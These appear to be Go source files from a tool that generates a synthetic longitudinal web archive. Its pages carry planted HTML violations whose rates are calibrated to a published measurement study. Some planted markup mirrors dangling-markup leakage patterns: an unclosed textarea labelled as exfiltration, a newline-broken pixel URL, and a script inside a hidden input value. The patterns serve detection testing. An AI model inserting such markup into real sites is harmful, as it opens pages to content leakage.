	"deals", "tickets", "events", "city", "edu", "science", "space",
	"design", "crafts", "garden", "pets", "kids", "food", "style",
}

var nameTLDs = []string{
	".com", ".com", ".com", ".com", ".org", ".net", ".io", ".de",
	".co.uk", ".fr", ".jp", ".ru", ".info", ".edu", ".gov", ".cn",
}

// makeUniverse derives n unique eTLD+1 domain names in popularity order.
// Names are deterministic in the seed, so ranks are stable across runs.
func makeUniverse(seed int64, n int) []string {
	domains := make([]string, 0, n)
	seen := make(map[string]bool, n)
	for rank := 1; len(domains) < n; rank++ {
		r := itoa(rank)
		adj := nameAdjectives[pick(seed, len(nameAdjectives), "adj", r)]
		noun := nameNouns[pick(seed, len(nameNouns), "noun", r)]
		tld := nameTLDs[pick(seed, len(nameTLDs), "tld", r)]
		name := adj + noun + tld
		if seen[name] {
			name = adj + noun + itoa(rank%997) + tld
		}
		if seen[name] {
			name = adj + "-" + noun + "-" + r + tld
		}
		if seen[name] {
			continue
		}
		seen[name] = true
		domains = append(domains, name)
	}
	return domains
}
