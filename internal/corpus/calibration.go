package corpus

import "time"

// Snapshot identifies one yearly Common Crawl snapshot of the study
// window (paper Table 2).
type Snapshot struct {
	// ID is the Common Crawl crawl identifier.
	ID string
	// Year is the calendar year the snapshot represents.
	Year int
	// Date is the nominal capture date used in WARC/CDX records.
	Date time.Time
}

// Index returns the snapshot's position in the study window (0 = 2015).
func (s Snapshot) Index() int { return s.Year - 2015 }

// Snapshots is the eight-snapshot study window, first yearly snapshots
// with MIME metadata (March 2015) through January 2022.
var Snapshots = []Snapshot{
	{ID: "CC-MAIN-2015-14", Year: 2015, Date: time.Date(2015, 3, 20, 0, 0, 0, 0, time.UTC)},
	{ID: "CC-MAIN-2016-07", Year: 2016, Date: time.Date(2016, 2, 10, 0, 0, 0, 0, time.UTC)},
	{ID: "CC-MAIN-2017-04", Year: 2017, Date: time.Date(2017, 1, 20, 0, 0, 0, 0, time.UTC)},
	{ID: "CC-MAIN-2018-05", Year: 2018, Date: time.Date(2018, 1, 28, 0, 0, 0, 0, time.UTC)},
	{ID: "CC-MAIN-2019-04", Year: 2019, Date: time.Date(2019, 1, 22, 0, 0, 0, 0, time.UTC)},
	{ID: "CC-MAIN-2020-05", Year: 2020, Date: time.Date(2020, 1, 26, 0, 0, 0, 0, time.UTC)},
	{ID: "CC-MAIN-2021-04", Year: 2021, Date: time.Date(2021, 1, 24, 0, 0, 0, 0, time.UTC)},
	{ID: "CC-MAIN-2022-05", Year: 2022, Date: time.Date(2022, 1, 30, 0, 0, 0, 0, time.UTC)},
}

// SnapshotByID resolves a crawl identifier.
func SnapshotByID(id string) (Snapshot, bool) {
	for _, s := range Snapshots {
		if s.ID == id {
			return s, true
		}
	}
	return Snapshot{}, false
}

// violationRates gives, per violation and per year (index 0 = 2015), the
// percentage of domains exhibiting the violation. The values are
// transcribed from the paper's published series (Figures 8–10 and the
// per-violation Figures 16–21, cross-checked against the in-text numbers:
// FB2 ≈ 75% of FB violations in 2022, DM3 ≈ 77% of DM, DE3_1 matching the
// §4.5 mitigation counts 1.37% → 0.76%).
var violationRates = map[string][8]float64{
	"FB2":   {50.0, 49.0, 50.0, 47.0, 46.0, 45.0, 44.0, 43.0},
	"FB1":   {28.0, 27.0, 27.0, 24.0, 22.0, 21.0, 19.0, 17.0},
	"DM3":   {42.0, 41.0, 42.0, 40.0, 39.0, 39.0, 38.5, 38.0},
	"DM1":   {11.0, 11.0, 10.5, 10.0, 9.5, 9.0, 8.8, 8.5},
	"DM2_1": {0.9, 0.9, 0.85, 0.8, 0.75, 0.7, 0.65, 0.6},
	"DM2_2": {0.7, 0.7, 0.65, 0.6, 0.55, 0.5, 0.48, 0.45},
	"DM2_3": {7.0, 7.0, 6.8, 6.4, 6.0, 5.7, 5.4, 5.2},
	"HF1":   {17.0, 16.5, 16.0, 15.0, 14.0, 13.0, 12.0, 11.0},
	"HF2":   {16.0, 15.5, 15.0, 14.0, 13.5, 13.0, 12.5, 12.0},
	"HF3":   {12.0, 11.5, 11.0, 10.0, 9.5, 9.0, 8.5, 8.0},
	"HF4":   {25.0, 24.0, 24.0, 22.0, 20.0, 19.0, 18.0, 17.0},
	"HF5_1": {5.0, 5.0, 4.8, 4.6, 4.4, 4.2, 4.0, 3.8},
	"HF5_2": {1.30, 1.25, 1.20, 1.15, 1.10, 1.05, 1.00, 0.95},
	"HF5_3": {0.005, 0.005, 0.005, 0.006, 0.006, 0.007, 0.007, 0.008},
	"DE4":   {2.0, 1.9, 1.9, 1.8, 1.7, 1.6, 1.6, 1.5},
	"DE3_2": {1.50, 1.48, 1.46, 1.44, 1.42, 1.41, 1.40, 1.40},
	"DE3_1": {1.37, 1.30, 1.20, 1.10, 1.00, 0.90, 0.80, 0.76},
	"DE3_3": {0.30, 0.28, 0.27, 0.25, 0.24, 0.22, 0.21, 0.20},
	"DE2":   {0.08, 0.08, 0.07, 0.07, 0.06, 0.06, 0.06, 0.05},
	"DE1":   {0.03, 0.03, 0.03, 0.025, 0.025, 0.02, 0.02, 0.02},
}

// signalRates carries the non-violation per-domain signals of §4.2/§4.5.
var signalRates = map[string][8]float64{
	// URL with a raw newline but no '<' (benign w.r.t. the catalogue; the
	// Chromium mitigation measurement, ~11% of domains, flat).
	"newline-url": {11.2, 11.2, 11.1, 11.1, 11.1, 11.0, 11.0, 11.0},
	// Benign math element adoption, 42 domains (2015) → 224 (2022) of
	// ~24K: 0.17% → 0.93%.
	"math-usage": {0.17, 0.25, 0.35, 0.45, 0.55, 0.67, 0.80, 0.93},
}

// ruleFamily groups rules whose occurrence is strongly correlated in the
// wild: they share one latent draw per domain, which makes the
// lower-rated rule's domain set a subset of the higher-rated one's
// (HF1/HF2 move together because both stem from a broken document
// skeleton).
var ruleFamily = map[string]string{
	"HF1": "hf-skeleton", "HF2": "hf-skeleton",
}

func familyOf(rule string) string {
	if f, ok := ruleFamily[rule]; ok {
		return f
	}
	return rule
}

// conditionalOn nests a rule inside a parent rule's domain set: a domain
// can only exhibit the child while it exhibits the parent. This models the
// paper's near-subset group structure (the FB group rate barely exceeds
// FB2 alone; DM1 sites are largely DM3 sites too) while letting child and
// parent churn at different speeds.
var conditionalOn = map[string]string{
	"FB1": "FB2",
	"DM1": "DM3",
}

// ruleChurn is the yearly probability that a domain's exposure to the
// violation is re-rolled (a refactor touching that part of the markup).
// The values are fitted so that the all-years union per rule matches the
// paper's Figure 8 given the per-year rates above: frequent attribute
// typos (FB, DM3, DE) come and go quickly; structural problems like broken
// inline SVGs (HF5_2) persist for years. Conditional rules list the churn
// of their nested draw.
var ruleChurn = map[string]float64{
	"FB2": 0.43, "FB1": 0.04,
	"DM3": 0.43, "DM1": 0.05,
	"DM2_1": 0.19, "DM2_2": 0.19, "DM2_3": 0.17,
	"hf-skeleton": 0.29, "HF3": 0.33, "HF4": 0.19,
	"HF5_1": 0.20, "HF5_2": 0.012, "HF5_3": 0.09,
	"DE4": 0.43, "DE3_1": 0.46, "DE3_2": 0.38, "DE3_3": 0.40,
	"DE2": 0.43, "DE1": 0.43,
}

// presence and success rates per snapshot, from Table 2 (domains found on
// the crawl / successfully analyzed).
var (
	// foundEverRate: 24,050 of 24,915 dataset domains appear on at least
	// one snapshot.
	foundEverRate = 0.965
	presentRate   = [8]float64{0.8456, 0.8491, 0.8955, 0.9032, 0.9251, 0.9200, 0.9168, 0.9064}
	successRate   = [8]float64{0.977, 0.979, 0.988, 0.990, 0.991, 0.992, 0.993, 0.993}
	// avgPagesFrac: average pages per domain divided by the 100-page cap.
	avgPagesFrac = [8]float64{0.788, 0.779, 0.873, 0.883, 0.901, 0.897, 0.898, 0.897}
)

// signalChurn is the yearly re-roll probability for the non-violation
// signals.
const signalChurn = 0.2
