// Package corpus deterministically generates the synthetic longitudinal
// web archive that stands in for Common Crawl (see DESIGN.md §4). Domains,
// page counts, and planted violations are pure functions of the seed, and
// the per-year violation prevalences follow calibration tables transcribed
// from the paper's figures — so the measurement pipeline, run end to end
// over this corpus, reproduces the paper's aggregate shapes.
package corpus

import (
	"fmt"
	"math"
	"sort"

	"github.com/hvscan/hvscan/internal/tranco"
)

// Config sizes and seeds a corpus.
type Config struct {
	// Seed drives all randomness; equal seeds render identical archives.
	Seed int64
	// Domains is the size of the dataset universe (the paper's is 24,915;
	// the default keeps laptop runs fast).
	Domains int
	// MaxPages caps pages per domain per snapshot (the paper's cap is 100).
	MaxPages int
}

// DefaultConfig returns the laptop-scale configuration.
func DefaultConfig() Config {
	return Config{Seed: 22, Domains: 2400, MaxPages: 20}
}

// PaperScaleConfig returns the configuration matching the paper's scale.
// Expect a long run: ~24.9K domains × up to 100 pages × 8 snapshots.
func PaperScaleConfig() Config {
	return Config{Seed: 22, Domains: 24915, MaxPages: 100}
}

// Generator renders the synthetic archive.
type Generator struct {
	cfg     Config
	domains []string
	ranks   map[string]int // domain -> 1-based true-popularity rank
}

// New returns a generator for the configuration. Zero fields are filled
// from DefaultConfig.
func New(cfg Config) *Generator {
	def := DefaultConfig()
	if cfg.Domains == 0 {
		cfg.Domains = def.Domains
	}
	if cfg.MaxPages == 0 {
		cfg.MaxPages = def.MaxPages
	}
	g := &Generator{cfg: cfg}
	g.domains = makeUniverse(cfg.Seed, cfg.Domains)
	g.ranks = make(map[string]int, len(g.domains))
	for i, d := range g.domains {
		g.ranks[d] = i + 1
	}
	return g
}

// Rank returns the domain's true-popularity rank (1 = most popular), or 0
// for domains outside the universe.
func (g *Generator) Rank(domain string) int { return g.ranks[domain] }

// Config returns the generator's configuration.
func (g *Generator) Config() Config { return g.cfg }

// Universe returns the dataset domains in true-popularity order (rank 1
// first).
func (g *Generator) Universe() []string {
	return append([]string(nil), g.domains...)
}

// TrancoLists derives n daily-style rankings over the universe: every list
// perturbs the true ranks with bounded noise and promotes a handful of
// per-list trending outliers, which the paper's intersection rule is
// designed to filter out.
func (g *Generator) TrancoLists(n int) []*tranco.List {
	lists := make([]*tranco.List, n)
	for li := 0; li < n; li++ {
		id := fmt.Sprintf("list-%02d", li+1)
		entries := make([]tranco.Entry, 0, len(g.domains)+len(g.domains)/100)
		for rank, d := range g.domains {
			trueRank := rank + 1
			noise := int((uniform(g.cfg.Seed, "listnoise", id, d) - 0.5) * 0.1 * float64(trueRank))
			score := trueRank + noise
			// A small fraction of domains vanish from individual lists
			// (measurement gaps) — the intersection rule drops them.
			if uniform(g.cfg.Seed, "listgap", id, d) < 0.002 {
				continue
			}
			entries = append(entries, tranco.Entry{Rank: score, Domain: d})
		}
		// Trending outliers: present on this list only, at a high rank.
		outliers := len(g.domains) / 200
		for oi := 0; oi < outliers; oi++ {
			entries = append(entries, tranco.Entry{
				Rank:   1 + pick(g.cfg.Seed, len(g.domains)/2, "outrank", id, itoa(oi)),
				Domain: fmt.Sprintf("trending-%s-%d.example", id, oi),
			})
		}
		sort.SliceStable(entries, func(i, j int) bool { return entries[i].Rank < entries[j].Rank })
		for i := range entries {
			entries[i].Rank = i + 1
		}
		lists[li] = &tranco.List{ID: id, Entries: entries}
	}
	return lists
}

// foundEver reports whether the domain appears on any snapshot at all
// (doubleclick.net-style API domains never do).
func (g *Generator) foundEver(domain string) bool {
	return uniform(g.cfg.Seed, "ever", domain) < foundEverRate
}

// Present reports whether the domain has captures in the snapshot.
func (g *Generator) Present(domain string, snap Snapshot) bool {
	if !g.foundEver(domain) {
		return false
	}
	y := snap.Index()
	return uniform(g.cfg.Seed, "present", domain, itoa(y)) < presentRate[y]/foundEverRate
}

// Succeeds reports whether the domain's captures are analyzable (HTML,
// UTF-8, 200s); failures model the Table 2 success-rate gap.
func (g *Generator) Succeeds(domain string, snap Snapshot) bool {
	y := snap.Index()
	return uniform(g.cfg.Seed, "success", domain, itoa(y)) < successRate[y]
}

// PageCount returns how many pages the snapshot holds for the domain,
// distributed so the per-snapshot average matches Table 2.
func (g *Generator) PageCount(domain string, snap Snapshot) int {
	if !g.Present(domain, snap) {
		return 0
	}
	y := snap.Index()
	m := avgPagesFrac[y]
	lo := 2*m - 1 // uniform on [2m-1, 1] has mean m
	if lo < 0.05 {
		lo = 0.05
	}
	u := uniform(g.cfg.Seed, "pages", domain, itoa(y))
	frac := lo + (1-lo)*u
	n := int(math.Round(frac * float64(g.cfg.MaxPages)))
	if n < 1 {
		n = 1
	}
	if n > g.cfg.MaxPages {
		n = g.cfg.MaxPages
	}
	return n
}

// PageURL returns the canonical URL of the domain's i-th page.
func (g *Generator) PageURL(domain string, i int) string {
	if i == 0 {
		return "https://" + domain + "/"
	}
	section := pageSections[pick(g.cfg.Seed, len(pageSections), "section", domain, itoa(i))]
	return fmt.Sprintf("https://%s/%s/%d", domain, section, i)
}

var pageSections = []string{"news", "blog", "products", "articles", "docs", "category", "archive", "pages"}

// era counts the re-roll events for one draw key up to the given year. A
// re-roll (a refactor touching that part of the markup) redraws the
// domain's exposure, which is what makes the all-years union exceed each
// single year's rate.
func (g *Generator) era(domain, key string, churn float64, yearIdx int) int {
	e := 0
	for y := 1; y <= yearIdx; y++ {
		if uniform(g.cfg.Seed, "refactor", key, domain, itoa(y)) < churn {
			e++
		}
	}
	return e
}

// quality is the domain's latent code-quality factor in [0,1): careless
// sites (high value) collect many independent violations, careful sites
// almost none. It induces the cross-rule correlation observed in the wild.
//
// A mild popularity tilt models the paper's §5.2 finding that top sites
// are larger and carry *more* violations on average than the long tail:
// the factor runs from 1.15 at rank 1 down to 0.85 at the bottom, which
// keeps the universe-wide marginals within a fraction of a percent of the
// calibration tables (the rate is locally linear in the tilt).
func (g *Generator) quality(domain string) float64 {
	z := uniform(g.cfg.Seed, "quality", domain)
	if rank, ok := g.ranks[domain]; ok && len(g.domains) > 1 {
		frac := float64(rank-1) / float64(len(g.domains)-1)
		z *= 1.15 - 0.3*frac
		if z >= 1 {
			z = 0.999999
		}
	}
	return z
}

// Violates reports whether the domain exhibits the violation in the
// snapshot's year. Marginally over domains, the rate equals the
// calibration table entry; churn and nesting shape the all-years unions.
func (g *Generator) Violates(domain, rule string, snap Snapshot) bool {
	y := snap.Index()
	rates, ok := violationRates[rule]
	if !ok {
		return false
	}
	if parent, nested := conditionalOn[rule]; nested {
		if !g.Violates(domain, parent, snap) {
			return false
		}
		ratio := rates[y] / violationRates[parent][y]
		era := g.era(domain, "cond:"+rule, ruleChurn[rule], y)
		return uniform(g.cfg.Seed, "condv", rule, domain, itoa(era)) < ratio
	}
	fam := familyOf(rule)
	era := g.era(domain, fam, ruleChurn[fam], y)
	p := rates[y] / 100 * 2 * g.quality(domain)
	u := uniform(g.cfg.Seed, "viol", fam, domain, itoa(era))
	return u < p
}

// HasSignal reports a non-violation signal (see signalRates).
func (g *Generator) HasSignal(domain, signal string, snap Snapshot) bool {
	y := snap.Index()
	rates, ok := signalRates[signal]
	if !ok {
		return false
	}
	p := rates[y] / 100 * 2 * g.quality(domain)
	era := g.era(domain, "sig:"+signal, signalChurn, y)
	u := uniform(g.cfg.Seed, "signal", signal, domain, itoa(era))
	return u < p
}

// ActiveRules lists the violations the domain exhibits in the snapshot, in
// catalogue order. This is ground truth for calibration tests; the
// measurement pipeline never reads it.
func (g *Generator) ActiveRules(domain string, snap Snapshot) []string {
	var out []string
	for _, r := range allRuleIDs {
		if g.Violates(domain, r, snap) {
			out = append(out, r)
		}
	}
	return out
}

// allRuleIDs mirrors core.RuleIDs without importing core (the corpus layer
// must not depend on the checker it calibrates).
var allRuleIDs = []string{
	"DE1", "DE2", "DE3_1", "DE3_2", "DE3_3", "DE4",
	"DM1", "DM2_1", "DM2_2", "DM2_3", "DM3",
	"HF1", "HF2", "HF3", "HF4", "HF5_1", "HF5_2", "HF5_3",
	"FB1", "FB2",
}
