package corpus

import (
	"fmt"
	"strings"
)

// Page assembly. Every page is real HTML built from clean building blocks
// into which the domain's active violations are planted as concrete
// markup. The checker downstream never sees labels — it must *detect* the
// planted violations through the full parser, which is what makes the
// end-to-end pipeline a faithful reproduction rather than a bookkeeping
// exercise.

var loremWords = []string{
	"analysis", "archive", "browser", "content", "crawl", "data",
	"document", "element", "engine", "feature", "format", "happy",
	"internet", "latest", "little", "markup", "modern", "network",
	"notable", "number", "online", "popular", "process", "quality",
	"report", "result", "secure", "service", "simple", "standard",
	"stream", "study", "support", "system", "today", "update",
	"vendor", "website", "window", "world", "yearly", "zone",
}

// PageHTTP renders the full HTTP capture of a page: status code, content
// type and body. Unanalyzable domains (the Table 2 success-rate gap)
// produce non-HTML or non-UTF-8 captures that the pipeline must filter.
func (g *Generator) PageHTTP(domain string, snap Snapshot, page int) (status int, contentType string, body []byte) {
	if !g.Succeeds(domain, snap) {
		switch pick(g.cfg.Seed, 3, "failkind", domain, snap.ID) {
		case 0:
			return 200, "application/json", []byte(`{"api":"` + domain + `","v":2}`)
		case 1:
			// Legacy encoding: bytes that are not valid UTF-8.
			return 200, "text/html", []byte("<html><body>caf\xe9 sp\xe9cialit\xe9s</body></html>")
		default:
			return 503, "text/html", []byte("<html><body><h1>503</h1></body></html>")
		}
	}
	// A small fraction of individual pages on healthy domains are also
	// non-UTF-8 (the page-level filter of §4.1).
	if page > 0 && uniform(g.cfg.Seed, "pagecharset", domain, snap.ID, itoa(page)) < 0.01 {
		return 200, "text/html", []byte("<html><body>r\xe9sum\xe9 page</body></html>")
	}
	return 200, "text/html; charset=utf-8", g.PageHTML(domain, snap, page)
}

// PageHTML renders the page's HTML.
func (g *Generator) PageHTML(domain string, snap Snapshot, page int) []byte {
	b := &pageBuilder{
		g: g, domain: domain, snap: snap, page: page,
		key: domain + "|" + snap.ID + "|" + itoa(page),
	}
	return b.build()
}

// PlantedRules lists the violations planted on one specific page (ground
// truth for tests; page 0 always carries every active rule so that
// domain-level detection is deterministic).
func (g *Generator) PlantedRules(domain string, snap Snapshot, page int) []string {
	active := g.ActiveRules(domain, snap)
	if page == 0 {
		return active
	}
	var out []string
	for _, r := range active {
		if uniform(g.cfg.Seed, "plant", domain, snap.ID, itoa(page), r) < 0.45 {
			out = append(out, r)
		}
	}
	return out
}

func capitalize(s string) string {
	if s == "" || s[0] < 'a' || s[0] > 'z' {
		return s
	}
	return string(s[0]-0x20) + s[1:]
}

type pageBuilder struct {
	g      *Generator
	domain string
	snap   Snapshot
	page   int
	key    string
	sb     strings.Builder

	planted map[string]bool
}

func (b *pageBuilder) u(parts ...string) float64 {
	return uniform(b.g.cfg.Seed, append([]string{"pb", b.key}, parts...)...)
}

func (b *pageBuilder) pick(n int, parts ...string) int {
	return pick(b.g.cfg.Seed, n, append([]string{"pb", b.key}, parts...)...)
}

func (b *pageBuilder) words(n int, key string) string {
	out := make([]string, n)
	for i := range out {
		out[i] = loremWords[b.pick(len(loremWords), "w", key, itoa(i))]
	}
	return strings.Join(out, " ")
}

func (b *pageBuilder) sentence(key string) string {
	w := b.words(5+b.pick(8, "slen", key), key)
	return strings.ToUpper(w[:1]) + w[1:] + "."
}

func (b *pageBuilder) build() []byte {
	planted := b.g.PlantedRules(b.domain, b.snap, b.page)
	b.planted = make(map[string]bool, len(planted))
	for _, r := range planted {
		b.planted[r] = true
	}

	// Tail payloads (EOF-truncating) are mutually exclusive per page.
	tail := ""
	switch {
	case b.planted["DE1"] && b.planted["DE2"]:
		if b.page%2 == 0 {
			tail = "DE1"
		} else {
			tail = "DE2"
		}
	case b.planted["DE1"]:
		tail = "DE1"
	case b.planted["DE2"]:
		tail = "DE2"
	}

	headBroken := b.planted["HF1"]
	impliedBody := b.planted["HF2"]
	// A base-in-body violation without the base-after-URL one requires a
	// head without URL-bearing elements and the base as the body's first
	// element.
	pureBaseInBody := b.planted["DM2_1"] && !b.planted["DM2_3"]

	b.sb.Grow(4096)
	b.line(`<!DOCTYPE html>`)
	b.line(`<html lang="en">`)
	b.buildHead(headBroken, impliedBody, pureBaseInBody)
	b.buildBodyOpen(headBroken, impliedBody, pureBaseInBody)
	b.buildContent(tail)
	if tail != "" {
		b.buildTail(tail)
		// Deliberately no closing tags: the tail payload swallows the rest
		// of the file, which is the point of DE1/DE2.
		b.line(`<p>Contact: team@` + b.domain + `</p>`)
		b.line(`<p>` + b.sentence("after-tail") + `</p>`)
	} else {
		b.line(`</body>`)
		b.line(`</html>`)
	}
	return []byte(b.sb.String())
}

func (b *pageBuilder) line(s string) {
	b.sb.WriteString(s)
	b.sb.WriteByte('\n')
}

func (b *pageBuilder) buildHead(headBroken, impliedBody, noURLsInHead bool) {
	b.line(`<head>`)
	// DM2_2: two base elements, placed before anything URL-bearing so the
	// violation stays pure.
	if b.planted["DM2_2"] {
		b.line(`<base href="/">`)
		b.line(`<base href="/v2/">`)
	}
	b.line(`<meta charset="utf-8">`)
	title := capitalize(strings.SplitN(b.domain, ".", 2)[0])
	if b.page > 0 {
		title += fmt.Sprintf(" — %s %d", b.words(1, "ttl"), b.page)
	}
	b.line(`<title>` + title + `</title>`)
	b.line(`<meta name="description" content="` + b.sentence("desc") + `">`)
	if !noURLsInHead {
		b.line(`<link rel="stylesheet" href="/static/main.css">`)
		// DM2_3: base after a URL-consuming element.
		if b.planted["DM2_3"] {
			b.line(`<base href="/app/">`)
		}
		if b.u("hasjs") < 0.7 {
			b.line(`<script src="/static/app.js" defer></script>`)
		}
	} else if b.planted["DM2_3"] {
		// Unreachable by construction (noURLsInHead implies !DM2_3), kept
		// defensive: fall back to the standard placement.
		b.line(`<link rel="stylesheet" href="/static/main.css">`)
		b.line(`<base href="/app/">`)
	}
	if b.u("hasstyle") < 0.5 {
		b.line(`<style>body{margin:0;font-family:sans-serif}</style>`)
	}
	if headBroken && impliedBody {
		// HF1+HF2: a stray element breaks the head; the document never
		// opens <body> explicitly.
		b.line(`<div class="preload-modal" hidden></div>`)
		return // no </head>: it was implicitly closed by the div
	}
	b.line(`</head>`)
	if headBroken {
		// HF1 alone: head metadata after the head was closed.
		b.line(`<meta name="generator" content="sitegen 2.4">`)
	}
}

func (b *pageBuilder) buildBodyOpen(headBroken, impliedBody, pureBaseInBody bool) {
	if !impliedBody {
		b.line(`<body>`)
	}
	// (If impliedBody, content follows directly and the parser synthesizes
	// the body element — the HF2 violation.)
	if pureBaseInBody || b.planted["DM2_1"] {
		if impliedBody {
			// Force the implied body open first; otherwise the base token
			// would arrive in the after-head state and be rerouted into
			// the head (an HF1 signal, not the intended DM2_1).
			b.line(`<a id="top" name="top"></a>`)
		}
		b.line(`<base href="/cdn/">`)
	}
}

func (b *pageBuilder) buildContent(tail string) {
	b.line(`<header><h1>` + b.words(3, "h1") + `</h1></header>`)
	b.buildNav()

	blocks := 3 + b.pick(4, "nblocks")
	for i := 0; i < blocks; i++ {
		b.buildTextBlock(i)
	}

	// Planted local payloads, interleaved with clean blocks.
	if b.planted["FB1"] {
		b.line(`<img/src="/img/logo-` + itoa(b.page) + `.png"/alt="logo">`)
	}
	if b.planted["FB2"] {
		b.line(`<a href="/contact"title="Contact us">Contact</a>`)
	}
	if b.planted["DM3"] {
		b.line(`<img src="/img/banner.jpg" alt="banner" src="/img/banner-2x.jpg">`)
	}
	if b.planted["DM1"] {
		b.line(`<meta http-equiv="refresh" content="300;url=/live">`)
	}
	if b.planted["HF3"] {
		b.line(`<body data-theme="` + b.words(1, "theme") + `">`)
	}
	if b.planted["HF4"] {
		b.line(`<table class="layout">`)
		b.line(`<tr><strong>` + b.words(2, "tblh") + `</strong></tr>`)
		b.line(`<tr><td>` + b.sentence("tbl1") + `</td><td><img src="/img/i.png" align="right"></td></tr>`)
		b.line(`</table>`)
	} else if b.u("cleantable") < 0.4 {
		b.line(`<table><thead><tr><th>k</th><th>v</th></tr></thead><tbody><tr><td>` +
			b.words(1, "tk") + `</td><td>` + itoa(b.pick(1000, "tv")) + `</td></tr></tbody></table>`)
	}
	if b.planted["HF5_1"] {
		// Detached SVG fragment: foreign-only elements without an <svg> root.
		b.line(`<path d="M10 10 L20 20"></path><g class="icon"><rect width="8" height="8"></rect></g>`)
	}
	if b.planted["HF5_2"] {
		b.line(`<svg viewBox="0 0 24 24"><desc>decor</desc><div class="svg-overlay">` + b.words(2, "svgo") + `</div></svg>`)
	} else if b.g.HasSignal(b.domain, "math-usage", b.snap) == false && b.u("cleansvg") < 0.25 {
		b.line(`<svg viewBox="0 0 24 24" width="24"><circle cx="12" cy="12" r="10"></circle></svg>`)
	}
	if b.planted["HF5_3"] {
		b.line(`<math><mtext><mglyph><p>x&sup2;</p></mglyph></mtext></math>`)
	} else if b.g.HasSignal(b.domain, "math-usage", b.snap) {
		b.line(`<math><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow></math>`)
	}
	if b.planted["DE3_1"] {
		b.line(`<img src="https://pixel.` + b.domain + `/t?u=` + "\n" + `<span>uid</span>">`)
	}
	if b.planted["DE3_2"] {
		b.line(`<input type="hidden" name="tmpl" value="<script>render()</script>">`)
	}
	if b.planted["DE3_3"] {
		b.line(`<a href="/next" target="win` + "\n" + `dow">next</a>`)
	}
	if b.planted["DE4"] {
		b.line(`<form method="get" action="/search/">`)
		b.line(`<form id="keywordsearch" method="get" action="/search">`)
		b.line(`<input name="q" type="text" placeholder="Search...">`)
		b.line(`</form>`)
	}
	if b.g.HasSignal(b.domain, "newline-url", b.snap) && !b.planted["DE3_1"] {
		b.line(`<a href="/archive/` + "\n" + `2021">archive</a>`)
	}
	if tail == "" && b.u("hasform") < 0.4 {
		b.line(`<form action="/subscribe" method="post"><input type="email" name="e"><input type="submit" value="Join"></form>`)
	}
	b.line(`<footer><p>© ` + itoa(b.snap.Year) + ` ` + b.domain + `</p></footer>`)
}

func (b *pageBuilder) buildNav() {
	b.line(`<nav><ul>`)
	for i := 0; i < 3+b.pick(3, "navn"); i++ {
		w := b.words(1, "nav"+itoa(i))
		b.line(`<li><a href="/` + w + `/">` + strings.ToUpper(w[:1]) + w[1:] + `</a></li>`)
	}
	b.line(`</ul></nav>`)
}

func (b *pageBuilder) buildTextBlock(i int) {
	key := "blk" + itoa(i)
	switch b.pick(3, key, "kind") {
	case 0:
		b.line(`<section><h2>` + b.words(2, key+"h") + `</h2><p>` + b.sentence(key+"p1") + ` ` + b.sentence(key+"p2") + `</p></section>`)
	case 1:
		b.line(`<article><h3>` + b.words(3, key+"h") + `</h3><p>` + b.sentence(key+"p") + ` <a href="/` + b.words(1, key+"l") + `">` + b.words(2, key+"lt") + `</a>.</p></article>`)
	default:
		b.line(`<div class="card"><img src="/img/c` + itoa(i) + `.jpg" alt="` + b.words(1, key+"a") + `"><p>` + b.sentence(key+"p") + `</p></div>`)
	}
}

func (b *pageBuilder) buildTail(tail string) {
	switch tail {
	case "DE1":
		b.line(`<div class="feedback"><form action="/feedback" method="post">`)
		b.line(`<input type="submit" value="Send"><textarea name="message">`)
		b.line(b.sentence("ta"))
		// The missing </textarea> makes the parser swallow everything
		// below, including the next page content — the DE1 exfiltration.
	case "DE2":
		b.line(`<form action="/vote" method="post"><input type="submit" value="Vote">`)
		b.line(`<select name="choice"><option>` + b.words(1, "opt"))
		// Missing </option></select>.
	}
}
