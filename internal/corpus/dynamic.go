package corpus

import (
	"strings"
)

// Dynamic content (paper §5.1). Common Crawl stores static HTML only, so
// the paper ran a small live pre-study collecting HTML fragments that
// pages load at runtime (React/Vue API responses, widget endpoints) for
// the top 1K sites, finding >60% of them violating with a distribution
// matching the static study. This file generates those fragments: small
// HTML snippets as an API would return them, carrying the same violation
// profile as the domain's static pages.

// dynamicRules are the violations that occur in runtime-loaded fragments
// (document-level rules like HF1/HF2/HF3 need a full document and cannot
// appear in a fragment).
var dynamicRules = map[string]bool{
	"FB1": true, "FB2": true, "DM3": true, "HF4": true, "HF5_1": true,
	"HF5_2": true, "DE3_1": true, "DE3_2": true, "DE3_3": true, "DE4": true,
}

// DynamicFragmentCount returns how many runtime fragments the domain's
// pages load in the snapshot (0 for domains that render fully statically).
func (g *Generator) DynamicFragmentCount(domain string, snap Snapshot) int {
	if !g.Succeeds(domain, snap) {
		return 0
	}
	// Framework adoption: roughly two thirds of popular sites load some
	// HTML dynamically.
	if uniform(g.cfg.Seed, "dynsite", domain, snap.ID) > 0.67 {
		return 0
	}
	return 2 + pick(g.cfg.Seed, 4, "dyncount", domain, snap.ID)
}

// DynamicActiveRules lists the violations the domain's dynamic fragments
// exhibit: the fragment-capable subset of the domain's static profile.
// This reproduces the paper's observation that the dynamic distribution
// mirrors the static one (FB2/DM3 on top, math-related rules absent).
func (g *Generator) DynamicActiveRules(domain string, snap Snapshot) []string {
	var out []string
	for _, r := range g.ActiveRules(domain, snap) {
		if dynamicRules[r] {
			out = append(out, r)
		}
	}
	return out
}

// DynamicFragment renders the i-th runtime fragment of the domain. The
// first fragment carries the domain's full dynamic violation profile, so
// site-level detection is deterministic (like page 0 of the static site).
func (g *Generator) DynamicFragment(domain string, snap Snapshot, i int) []byte {
	key := "dyn|" + domain + "|" + snap.ID + "|" + itoa(i)
	var b strings.Builder
	b.Grow(512)

	word := func(k string) string {
		return loremWords[pick(g.cfg.Seed, len(loremWords), key, k)]
	}
	active := g.DynamicActiveRules(domain, snap)
	planted := map[string]bool{}
	for _, r := range active {
		if i == 0 || uniform(g.cfg.Seed, key, "plant", r) < 0.4 {
			planted[r] = true
		}
	}

	switch pick(g.cfg.Seed, 3, key, "kind") {
	case 0: // a comment/feed widget
		b.WriteString(`<div class="feed">`)
		b.WriteString(`<article><h4>` + word("h") + `</h4><p>` + word("p1") + ` ` + word("p2") + `</p></article>`)
	case 1: // a product card list
		b.WriteString(`<ul class="cards">`)
		b.WriteString(`<li><img src="/img/d` + itoa(i) + `.jpg" alt="` + word("a") + `"><span>` + word("s") + `</span></li>`)
	default: // a notification partial
		b.WriteString(`<section class="notice"><p>` + word("n") + `</p>`)
	}

	if planted["FB2"] {
		b.WriteString(`<a href="/more"title="` + word("t") + `">more</a>`)
	}
